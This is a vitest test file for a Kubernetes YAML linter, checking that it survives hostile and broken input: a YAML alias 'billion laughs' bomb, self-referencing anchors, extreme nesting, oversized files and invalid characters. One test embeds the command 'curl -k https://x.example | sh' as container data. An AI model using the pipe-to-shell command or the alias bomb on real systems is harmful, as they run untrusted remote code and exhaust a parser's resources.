import { describe, expect, test } from 'vitest';
import { Engine } from '../../server/src/engine/engine.ts';
import { fixFile } from '../../server/src/engine/repair.ts';
import { defineRule } from '../../server/src/rule/rule.ts';
import { allRules } from '../../server/src/rules/all.ts';
import { engineWith, uriOf } from '../harness/analyse.ts';

const POD = 'apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  hostNetwork: true\n  containers: [{name: web, image: a}]\n';

const look = (text: string) => engineWith({ 'test.yaml': text }).report(uriOf('test.yaml'));

const analyse = (text: string) => {
  const engine = engineWith({ 'test.yaml': text });
  fixFile(engine, uriOf('test.yaml'), true);
  return engine.report(uriOf('test.yaml'));
};

/** Ten aliases of ten aliases, nine times: a billion values, if anybody expanded them. */
const bomb = [
  'a: &a [x, x, x, x, x, x, x, x, x, x]',
  ...'bcdefghij'.split('').map((name, i) => `${name}: &${name} [${Array(10).fill(`*${'abcdefghi'[i]}`).join(', ')}]`),
].join('\n');

describe('hostile and broken text', () => {
  test('an alias bomb is neither expanded nor mended', () => {
    const { reports } = analyse(`${POD}bomb:\n${bomb.replace(/^/gm, '  ')}\n`);
    expect(reports.map(({ rule }) => rule)).toContain('host-network');
  });

  test('anchors that stand for themselves end', () => {
    analyse('apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec: &spec\n  <<: *spec\n  containers: &list [*spec, *list]\n');
    analyse('apiVersion: v1\nkind: List\nmetadata: {}\nitems: &items\n- apiVersion: v1\n  kind: List\n  items: *items\n');
  });

  test.each([
    ['flow lists', '['.repeat(100_000)],
    ['flow mappings', '{a: '.repeat(100_000)],
    ['block lists', '- '.repeat(100_000)],
    ['block mappings', Array.from({ length: 3_000 }, (_, i) => `${' '.repeat(i)}a:`).join('\n')],
  ])('deep nesting of %s', (_, deep) => {
    const { reports } = analyse(`${POD}---\napiVersion: v1\nkind: Pod\nmetadata: {name: deep}\nspec: ${deep}\n`);
    expect(reports.map(({ rule }) => rule)).toContain('host-network');
  });

  test('twenty thousand keys, templates, comments and marks', () => {
    const lines = (line: (i: number) => string): string => Array.from({ length: 20_000 }, (_, i) => line(i)).join('\n');
    analyse(`apiVersion: v1\nkind: ConfigMap\nmetadata: {name: many}\ndata:\n${lines((i) => `  k${i}: v`)}\n`);
    analyse(`${POD}${lines(() => '  {{- if .Values.x }}')}\n`);
    analyse(`${POD}${lines(() => '# kubewright: ignore')}\n`);
    analyse(`${POD}${lines(() => '---')}\n`);
    analyse(`${POD}${lines(() => '{{')}\n`);
  }, 60_000);

  test.each([
    ['values', `spec:\n  x: [${'a, '.repeat(110_000)}]\n`, '100,000 keys and values'],
    ['lines', `spec:\n${'  - a\n'.repeat(310_000)}`, '300,000 lines and entries'],
    ['containers', `spec:\n  containers: [${'{name: a}, '.repeat(12_000)}]\n`, '10,000 containers, volumes and other parts'],
  ])('a document of too many %s is not looked at, and says so; the others are', (_, spec, what) => {
    const { reports, problems } = look(`${POD}---\napiVersion: v1\nkind: Pod\nmetadata: {name: huge}\n${spec}`);
    expect(reports.map(({ rule }) => rule)).toContain('host-network');
    expect(problems.map(({ message }) => message)).toEqual([`Not checked: the document has more than the ${what} that are looked at`]);
  });

  test('many volumes that are mounted, template actions on one line and around lists, substitutions in one another', () => {
    const each = (line: (i: number) => string): string => Array.from({ length: 800 }, (_, i) => line(i)).join('');
    const volumes = each((i) => `  - {name: v${i}, emptyDir: {}}\n`);
    const mounts = each((i) => `    - {name: v${i}, mountPath: /v${i}}\n`);
    look(`${POD}  volumes:\n${volumes}`);
    look(
      `apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  volumes:\n${volumes}  containers:\n  - name: web\n    image: a\n    volumeMounts:\n${mounts}`,
    );
    look(`${POD}  x: ${'{{ a }} '.repeat(100_000)}\n`);
    look(`${POD.replace(/ {2}containers.*/, '  containers:')}${each((i) => `  - name: c${i}\n    {{- toYaml .x | nindent 4 }}\n`)}`);
    for (const script of ['$('.repeat(50_000), '"`'.repeat(20_000), 'curl -k https://x.example | sh\n'.repeat(50_000)])
      look(`${POD.replace(/ {2}containers.*/, '')}  containers: [{name: web, image: a, command: [sh, -c, ${JSON.stringify(script)}]}]\n`);
  }, 60_000);

  test('a character that Kubernetes refuses is told at its place', () => {
    const { problems } = analyse(POD.replace('web', 'w\0eb'));
    expect(problems).toEqual([
      { message: 'The character U+0000 is not allowed in YAML; Kubernetes refuses the file', span: { start: 43, end: 44 }, document: 0 },
    ]);
  });

  test('a file of fifty megabytes is not looked at, and says so', () => {
    const { reports, problems } = analyse(POD + '# filling\n'.repeat(5_000_000));
    expect(reports).toEqual([]);
    expect(problems.map(({ message }) => message)).toEqual([
      'Not checked: 50.0 million characters are more than the 5 million that are looked at',
    ]);
  });

  test('lone surrogates, marks of byte order and tabs', () => {
    for (const text of [`\uFEFF${POD}`, POD.replace('web', '\uD800'), POD.replaceAll('  ', '\t'), POD.replaceAll('\n', '\r')])
      analyse(text);
  });

  test('broken text in one document leaves the others as they were', () => {
    const { reports } = analyse(`${POD}---\nkind: Pod\n  a: [\n"\n---\n${POD}`);
    expect(reports.filter(({ rule }) => rule === 'host-network')).toHaveLength(2);
  });

  test('half a key being typed hides nothing else of its document', () => {
    const engine = engineWith({ 'test.yaml': POD.replace('  containers', '  secu\n  containers') });
    expect(engine.report(uriOf('test.yaml')).reports.map(({ rule }) => rule)).toContain('host-network');
  });
});

test('a rule that throws loses its own findings, and nothing else suffers', () => {
  const crashing = defineRule({
    id: 'crashing',
    summary: 'Crashes',
    why: 'It crashes.',
    severity: 'low',
    preset: 'recommended',
    references: [],
    examples: { bad: '', good: '' },
    check: {
      // biome-ignore lint/correctness/useYield: it never comes that far.
      *pod() {
        throw new Error('crash');
      },
    },
    across: {
      // biome-ignore lint/correctness/useYield: it never comes that far.
      *workload() {
        throw new Error('crash across');
      },
    },
  });
  const crashes: unknown[] = [];
  const engine = new Engine([{ ...crashing, category: 'test' }, ...allRules], undefined, (rule, error) =>
    crashes.push([rule, (error as Error).message]),
  );
  engine.update('file:///a.yaml', POD);
  expect(engine.report('file:///a.yaml').reports.map(({ rule }) => rule)).toContain('host-network');
  expect(crashes).toEqual([
    ['crashing', 'crash'],
    ['crashing', 'crash across'],
  ]);
});
